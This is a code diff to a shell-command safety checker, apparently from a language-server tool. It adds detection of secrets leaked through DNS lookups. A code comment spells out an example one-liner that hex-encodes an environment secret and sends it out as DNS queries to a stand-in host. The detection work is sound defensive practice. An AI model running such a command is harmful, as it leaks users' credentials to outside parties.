@@ -7,7 +7,13 @@ from urllib.parse import urlsplit
 
 from interpreter_lsp.safety.context import Context
 from interpreter_lsp.safety.places import PathKind, check_write, classify_path
-from interpreter_lsp.safety.rules import DOWNLOADERS, KNOWN_API_HOSTS, NETWORK_COMMANDS, is_secret_variable
+from interpreter_lsp.safety.rules import (
+    DNS_COMMANDS,
+    DOWNLOADERS,
+    KNOWN_API_HOSTS,
+    NETWORK_COMMANDS,
+    is_secret_variable,
+)
 from interpreter_lsp.safety.shell.call import Call, Handler, normalise, split_flags
 
 _REMOTE_SPEC = re.compile(r"^([\w.-]+@)?[\w.-]+:")
@@ -85,6 +91,9 @@ def check_secrets_sent(call: Call, ctx: Context) -> None:
         return
     if "env" in call.tags:
         ctx.add("high", f"sends your environment variables (they may hold keys) over the network ({call.name})")
+    if (call.via_xargs or call.name in DNS_COMMANDS) and call.upstream & {"env", "secrets"}:
+        # `printenv KEY | xxd -p | xargs -I{} host {}.x.example`: the secret becomes a name looked up in DNS
+        ctx.add("high", f"sends secrets over the network, piped into {call.name}")
     host = _first_host(call.args)
     for i, arg in enumerate(call.args):
         for name in _VARIABLE.findall(arg):
